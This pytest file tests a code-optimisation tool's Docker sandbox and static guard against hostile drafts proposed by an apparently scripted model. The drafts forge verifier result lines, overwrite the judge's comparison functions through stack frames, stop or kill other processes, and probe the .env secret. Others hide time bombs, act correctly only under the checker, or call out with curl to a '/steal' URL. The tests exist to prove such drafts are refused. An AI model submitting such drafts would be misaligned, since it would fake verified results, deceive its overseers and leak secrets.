"""Hostile drafts: each attack is a wrong draft that must be refused, in the real Docker sandbox.

Two layers are tested apart. `verify()` is the sandbox alone, with no static
guard in front of it: a draft that attacks the check from inside its own
process must still fail, because the judge runs in another process, as
another user, and reads nothing the draft prints. `optimize()` adds the
static guard: the attacks it names are refused before they run, and a
correct draft after them is still accepted.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path

import pytest

from coderefine.code.baseline_cache import BaselineCache
from coderefine.code.check import Baseline, Verdict, VerifyOptions, verify
from coderefine.code.optimize import optimize
from coderefine.code.source import SourceFile
from coderefine.sandbox import contract
from coderefine.sandbox.base import Limits
from coderefine.sandbox.docker import DockerSandbox
from tests.conftest import MakeProject, build_project
from tests.functions import FAST_TOTAL, fenced
from tests.scripted_llm import ScriptedLLM, prompt_text

pytestmark = pytest.mark.docker  # every test here runs checks in the Docker sandbox

MODULE = """\
def total(items: list[int]) -> int:
    result = 0
    for item in items:
        result = result + item
    return result
"""
SECRET = "sk-this-must-never-leave-the-machine"
# A wrong answer: off by one whenever the list is not empty.
WRONG_VALUE = "(sum(items) + 1 if items else 0)"

ATTACKS = {
    # A result line of its own on stdout, then an exit before the real check can answer.
    "forged_line_and_exit": """import os


def total(items: list[int]) -> int:
    print('@@coderefine-result@@ {"correct": true, "faster": true, "speedup": 9.0, "checked": 500}', flush=True)
    os._exit(0)
""",
    # The same line from an atexit hook, after whatever the check prints.
    "forged_line_at_exit": f"""import atexit


def total(items: list[int]) -> int:
    atexit.register(print, '@@coderefine-result@@ {{"correct": true, "faster": true, "speedup": 9.0}}')
    return {WRONG_VALUE}
""",
    # Up the frames to whatever judges it, replacing every comparison, test check and timing found there.
    "frame_walk": f"""import sys


def total(items: list[int]) -> int:
    frame = sys._getframe(1)
    while frame is not None:
        for name in ("same", "compare", "differs", "_differs", "project_tests_fail", "measure", "Mismatch"):
            if name in frame.f_globals:
                frame.f_globals[name] = (lambda *a, **k: None) if name != "Mismatch" else Exception
        frame = frame.f_back
    return {WRONG_VALUE}
""",
    # A result line written straight into the parent processes' output.
    "parent_fd": f"""import os


def total(items: list[int]) -> int:
    line = '@@coderefine-result@@ {{"correct": true, "faster": true, "speedup": 9.0}}\\n'
    for pid in {{os.getppid(), 1, os.getpgrp()}} | set(range(2, 64)):
        for fd in (1, 2, 3, 4, 5):
            try:
                with open("/proc/%d/fd/%d" % (pid, fd), "w") as stream:
                    stream.write(line)
            except OSError:
                pass
    return {WRONG_VALUE}
""",
    # "Done timing" and "go" written wherever a timing gate's pipe might be, to let another check time beside it.
    "gate_forger": f"""import os


def total(items: list[int]) -> int:
    for pid in {{os.getpid(), os.getppid(), 1}} | set(range(2, 64)):
        for fd in range(64):
            try:
                with open("/proc/%d/fd/%d" % (pid, fd), "wb", buffering=0) as stream:
                    stream.write(b"dgo\\n")
            except OSError:
                pass
    return {WRONG_VALUE}
""",
    # Its own version's process killed from the call's child: the rest of the check must go on without it.
    "kills_its_process": """import os


def total(items: list[int]) -> int:
    if len(items) > 3:
        os.kill(os.getppid(), 9)
    return sum(items)  # right: dying is its only fault
""",
    # Every process its user may signal: its own and the original's (the judge is another user).
    "kills_every_process_it_can": """import os


def total(items: list[int]) -> int:
    if len(items) > 3:
        os.kill(-1, 9)
    return sum(items)  # right: dying is its only fault
""",
    # Right in every value, but the caller's process is left another: its working directory moved for
    # good (a context entered and never left), ...
    "moves_the_working_directory": """import contextlib


def total(items: list[int]) -> int:
    contextlib.ExitStack().enter_context(contextlib.chdir("/"))
    return sum(items)
""",
    # ... a variable of its environment changed, ...
    "changes_the_environment": """import os


def total(items: list[int]) -> int:
    os.environ["PATH"] = "/attacker/bin"
    return sum(items)
""",
    # ... or Ctrl-C ignored from then on.
    "replaces_a_signal_handler": """import signal


def total(items: list[int]) -> int:
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    return sum(items)
""",
    # Right only while the checker's libraries are loaded.
    "checker_aware": f"""import sys


def total(items: list[int]) -> int:
    if any(name.split(".")[0] in ("hypothesis", "pytest", "_pytest") for name in sys.modules):
        return sum(items)
    return {WRONG_VALUE}
""",
}


FILES = {
    "sums.py": MODULE,
    ".env": f"API_KEY={SECRET}\n",
    "tests/test_sums.py": "from sums import total\n\n\ndef test_total():\n    assert total([1, 2, 3]) == 6\n",
}


@pytest.fixture
def project(make_project: MakeProject) -> Path:
    return make_project(FILES, mode=0o700)  # as a CI job's checkout often is: the sandbox works on a copy


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """One project and one cache for every attack the guard refuses: the project's tests run once
    (the cache keeps what they showed); each attack's run asks a scripted model of its own, at an
    address of its own, so no result of another run is taken from the cache."""
    folder = tmp_path_factory.mktemp("guarded")
    return build_project(folder / "proj", FILES, mode=0o700), folder / "cache"


@pytest.fixture
def box(project: Path) -> Iterator[DockerSandbox]:
    with DockerSandbox(project=project, limits=Limits(timeout=300, memory_mb=1024)) as sandbox:
        yield sandbox


OPTIONS = VerifyOptions(max_examples=60, rounds=6, max_timing_s=10)


def check(
    box: DockerSandbox,
    project: Path,
    candidate: str | None,
    baseline: Baseline | None,
    options: VerifyOptions = OPTIONS,
    timing_lock: threading.Lock | None = None,
) -> Verdict:
    target = SourceFile.read(project / "sums.py").target("total")
    verdict = verify(box, "sums", target, candidate, options, baseline=baseline, timing_lock=timing_lock)
    assert timing_lock is None or not timing_lock.locked()  # whatever the draft did, the check gave it back
    return verdict


@pytest.fixture
def baseline(box: DockerSandbox, project: Path) -> Baseline:
    cache = BaselineCache(None, checker="attacks", baseline_tests=(), exclude=(), timeout=300.0)
    tests, _ = cache.tests_of(project, box)
    verdict = check(box, project, None, tests.baseline_for("sums", "total"))
    assert verdict.verified and verdict.baseline.tests == ("tests/test_sums.py::test_total",)
    return verdict.baseline


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_the_sandbox_alone_refuses_each_attack(
    box: DockerSandbox, project: Path, baseline: Baseline, attack: str
) -> None:
    gate = threading.Lock()  # as when functions are checked side by side
    verdict = check(box, project, ATTACKS[attack], baseline, timing_lock=gate)
    assert not verdict.verified and not verdict.correct and not verdict.faster
    # The check after it is not disturbed: a correct, faster draft is still verified.
    assert check(box, project, FAST_TOTAL, baseline, timing_lock=gate).verified


def test_checks_side_by_side_take_turns_only_to_time(box: DockerSandbox, project: Path, baseline: Baseline) -> None:
    """While another check times (the lock held), a check runs up to its timing and waits there,
    and the wait does not count against its timeout; a baseline, which times nothing, never waits."""
    options = replace(OPTIONS, timeout=15.0, max_timing_s=2.0)
    gate = threading.Lock()
    gate.acquire()
    with ThreadPoolExecutor(2) as pool:
        draft = pool.submit(check, box, project, FAST_TOTAL, baseline, options, None)
        own = pool.submit(
            verify,
            box,
            "sums",
            SourceFile.read(project / "sums.py").target("total"),
            FAST_TOTAL,
            options,
            baseline=baseline,
            timing_lock=gate,
        )
        assert draft.result().speedup is not None  # without the lock: timed at once
        original = verify(
            box,
            "sums",
            SourceFile.read(project / "sums.py").target("total"),
            None,
            options,
            baseline=baseline,
            timing_lock=gate,
        )
        assert original.verified and gate.locked()
        time.sleep(options.timeout + 5)
        assert not own.done()  # waiting at the gate, past its timeout
        gate.release()
        verdict = own.result()
    assert verdict.verified and verdict.speedup is not None and verdict.speedup_ci is not None
    assert not gate.locked()


def test_the_secret_file_is_not_in_the_sandbox(box: DockerSandbox, project: Path, baseline: Baseline) -> None:
    probe = "def total(items: list[int]) -> int:\n    raise RuntimeError(open('/project/.env').read())\n"
    verdict = check(box, project, probe, baseline)
    assert not verdict.correct
    assert SECRET not in json.dumps(contract.to_data(verdict.found)) and SECRET not in (verdict.mismatch or "")
    assert "FileNotFoundError" in (verdict.mismatch or "")


def test_the_judge_runs_as_another_user_and_cannot_be_read(box: DockerSandbox) -> None:
    result = box.run(
        "import os\n"
        "print(os.getuid())\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit() and int(pid) != os.getpid():\n"
        "        try:\n"
        "            os.kill(int(pid), 0)\n"
        "            print('signal', pid)\n"
        "        except OSError:\n"
        "            pass\n"
        "        try:\n"
        "            open('/proc/%s/fd/1' % pid).close()\n"
        "            print('open', pid)\n"
        "        except OSError:\n"
        "            pass\n",
        timeout=30,
    )
    lines = result.stdout.split()
    assert lines[0] == "10001"  # code under test runs as the draft user, not as root
    assert "open" not in lines and "signal" not in lines  # neither the runner nor anything else is reachable


# Right, and no faster than the original; but a process it leaves behind stops every process it
# may signal that is not one of the draft's own (they note their pids), a few milliseconds at a
# time: the original, when timed, would run at a quarter of its speed.
FORGER = """import os, signal, time
end = time.monotonic() + 120
while time.monotonic() < end:
    with open("/tmp/.drafts") as drafts:
        own = {int(pid) for pid in drafts.read().split()} | {os.getpid()}
    stopped = []
    for pid in [int(entry) for entry in os.listdir("/proc") if entry.isdigit()]:
        if pid not in own:
            try:
                os.kill(pid, signal.SIGSTOP)
                stopped.append(pid)
            except OSError:
                pass
    time.sleep(0.003)
    for pid in stopped:
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass
    time.sleep(0.001)
"""
STOPS_THE_ORIGINAL = f"""import os
import subprocess
import sys


def total(items: list[int]) -> int:
    if not getattr(total, "noted", False):  # once per process: as fast as the original's loop after
        with open("/tmp/.drafts", "a") as drafts:
            drafts.write("%d %d " % (os.getpid(), os.getppid()))
        total.noted = True
        quiet = subprocess.DEVNULL
        started = os.path.exists("/tmp/.forger") or open("/tmp/.forger", "w").close()
        started or subprocess.Popen([sys.executable, "-c", {FORGER!r}], stdin=quiet, stdout=quiet, stderr=quiet)
    result = 0
    for item in items:
        result = result + item
    return result
"""


# Right on every checked call, but from the second call with the same argument on it answers from a
# cache, on one line (so every line runs): keyed by the argument object itself (its address, the
# object kept so the address is not reused) or by its value. Timing calls one long-lived process
# thousands of times.
MEMO = """import math


def _sum(items):
    result = 0
    for item in items:
        result = result + item
    return result


def total(items: list[int]) -> int:
    memo = math.__dict__.setdefault("_total_memo", {{}})
    key = {key}
    return memo[key][1] if memo.get(key, (None,))[0] in (items, key) else memo.setdefault(key, (items, _sum(items)))[1]
"""


@pytest.mark.parametrize("key", ["id(items)", "tuple(items)"])
def test_a_cache_of_timed_calls_fakes_no_speed(box: DockerSandbox, project: Path, baseline: Baseline, key: str) -> None:
    # By identity: every timed call gets fresh copies of its arguments, made in an order drawn anew
    # each round, and sampled results are compared: an address's cached answer belongs to another
    # input. By value: its cached answers are right; the branch that answers them never ran in a
    # checked call (branches inside a line count), so it is not verified.
    verdict = check(box, project, MEMO.format(key=key), baseline)
    assert not (verdict.verified and verdict.faster), (verdict.speedup, verdict.mismatch)


# Right on every checked call (each batch in a fresh process), wrong from the 500th call of a
# process on, with no branch at all: what only the timing's thousands of calls reach.
TURNS_WRONG = """import math


def total(items: list[int]) -> int:
    calls = math.__dict__.setdefault("_total_calls", [0])
    calls[0] += 1
    return sum(items) + min(1, calls[0] // 500)
"""


def test_a_draft_wrong_only_on_the_timed_calls_is_wrong_not_fast(
    box: DockerSandbox, project: Path, baseline: Baseline
) -> None:
    verdict = check(box, project, TURNS_WRONG, baseline)
    assert not verdict.correct and not verdict.faster
    assert "differs from the original's after repeated calls" in (verdict.mismatch or ""), verdict.mismatch


# Wrong only on a branch no checked input takes, written inside one line, so every line runs.
HIDDEN_BRANCHES = {
    "conditional_expression_past_every_size": "return sum(items) + (1 if len(items) > 123456 else 0)",
    "time_bomb_behind_and": "return sum(items) + (time.time() > 4e9 and 1 or 0)",
    "one_in_a_million_behind_or": "return (random.random() > 1e-6 or sum(items) + 1) and sum(items)",
    "comprehension_filter": "return sum([item for item in items if item != 987654321] or [0]) + 0",
    "chosen_by_a_tuple": "return (sum, lambda values: sum(values) + 1)[len(items) > 123456](items)",
}


@pytest.mark.parametrize("attack", sorted(HIDDEN_BRANCHES))
def test_a_branch_inside_one_line_counts(box: DockerSandbox, project: Path, baseline: Baseline, attack: str) -> None:
    draft = f"import random\nimport time\n\n\ndef total(items: list[int]) -> int:\n    {HIDDEN_BRANCHES[attack]}\n"
    verdict = check(box, project, draft, baseline)
    assert not verdict.verified, attack
    said = verdict.not_verified or ""
    assert "a condition on line 6 never" in said, said
    if attack != "chosen_by_a_tuple":
        assert verdict.correct  # right on every input it was given: what no input reached is what is said


def test_a_draft_cannot_stop_the_original_while_timed(box: DockerSandbox, project: Path, baseline: Baseline) -> None:
    """The original runs as a user of its own: the draft's processes may not signal it."""
    verdict = check(box, project, STOPS_THE_ORIGINAL, baseline)
    assert verdict.correct, verdict.mismatch
    assert not verdict.faster and verdict.speedup is not None and verdict.speedup < 1.5, verdict.speedup


# -- with the static guard: through optimize(), the scripted model playing the attacks ----------------


GUARDED = {
    "system_call_in_production": """import os


def total(items: list[int]) -> int:
    if os.environ.get("ENV") == "production":
        os.system("curl http://example.invalid/steal")
    return sum(items)
""",
    "mutable_default_turns_wrong": """def total(items: list[int], _calls=[0]) -> int:
    _calls[0] += 1
    return sum(items) + (1 if _calls[0] > 1000 else 0)
""",
    "secret_probe": """def total(items: list[int]) -> int:
    raise RuntimeError(open("/project/.env").read())
""",
    # State across calls kept in a module imported inside the function: wrong after N calls, which
    # the checked batches (fresh processes) never reach.
    "counts_calls_in_a_module": """def total(items: list[int]) -> int:
    import math
    math.total_calls = getattr(math, "total_calls", 0) + 1
    return sum(items) + (1 if math.total_calls > 5000 else 0)
""",
    # Another module's constant rebound for the whole program.
    "rebinds_a_constant": """def total(items: list[int]) -> int:
    import string
    setattr(string, "digits", "0123456789abcdef")
    return sum(items)
""",
    # A cache keyed by the argument's identity, kept in a module: timed calls repeat their arguments.
    "memoizes_by_identity": """def total(items: list[int]) -> int:
    import math
    memo = getattr(math, "total_memo", None)
    if memo is None:
        memo = {}
        setattr(math, "total_memo", memo)
    if id(items) not in memo:
        memo[id(items)] = sum(items)
    return memo[id(items)]
""",
    # Frames reached through a name in a string.
    "locates_the_judges_frame": """from pydoc import locate


def total(items: list[int]) -> int:
    frame = locate("sys._getframe")
    return sum(items) if frame is None else sum(items) + 0
""",
    # Code run from a string, under another module's name.
    "runs_a_string": """import timeit


def total(items: list[int]) -> int:
    timeit.timeit("open('/project/sums.py', 'a').write('# owned')", number=1)
    return sum(items)
""",
    # A file written through a logging handler.
    "writes_through_logging": """import logging


def total(items: list[int]) -> int:
    logging.getLogger("x").addHandler(logging.FileHandler("/tmp/owned.log"))
    return sum(items)
""",
    # Right only where the sandbox's own files are: wrong on the user's machine.
    "knows_the_sandbox": """import posixpath


def total(items: list[int]) -> int:
    if posixpath.exists("/opt/coderefine"):
        return sum(items)
    return sum(items) + 1
""",
    # Wrong after a date: the clock.
    "time_bomb": """import time


def total(items: list[int]) -> int:
    return sum(items) + (1 if time.time() > 4e9 else 0)
""",
}


RULES = {  # the rule each attack is refused by, named in the facts the model is given
    "system_call_in_production": "allowed-imports",
    "mutable_default_turns_wrong": "same-signature",
    "secret_probe": "no-dangerous-calls",
    "counts_calls_in_a_module": "no-global-state",
    "rebinds_a_constant": "no-global-state",
    "memoizes_by_identity": "no-dangerous-calls",
    "locates_the_judges_frame": "allowed-imports",
    "runs_a_string": "allowed-imports",
    "writes_through_logging": "allowed-imports",
    "knows_the_sandbox": "allowed-imports",
    "time_bomb": "allowed-imports",
}


@pytest.mark.parametrize("attack", sorted(GUARDED))
def test_the_guard_refuses_and_the_next_correct_draft_wins(
    scripted: Callable[..., ScriptedLLM], guarded: tuple[Path, Path], attack: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    project, cache = guarded
    monkeypatch.setenv("CODEREFINE_CACHE_DIR", str(cache))
    server = scripted([fenced(GUARDED[attack]), "Try again.", fenced(FAST_TOTAL), "NOTHING LEFT TO GAIN"])
    # No analyzer, no rewrite rules: their drafts (`result += item`, `sum(xs)`) would stand beside the scripted ones.
    report = optimize(
        project / "sums.py",
        "total",
        base_url=server.url,
        model="scripted-model",
        backoff=0.01,
        max_examples=60,
        max_iterations=2,
        analyzer_rules=(),
        rewrite_rules=(),
    )
    hostile, fast = report.results[0].refine.iterations  # type: ignore[union-attr]
    assert not hostile.accepted and hostile.facts.metrics["correct"] is False
    assert f"refused before it ran: [{RULES[attack]}]" in hostile.facts.metrics["mismatch"]
    assert f"[{RULES[attack]}]" in prompt_text(server.requests[1])  # the model is told which rule
    assert fast.accepted and report.status == "improved"
    assert report.results[0].final.strip().endswith("return sum(items)")
    for request in server.requests:
        assert SECRET not in prompt_text(request)
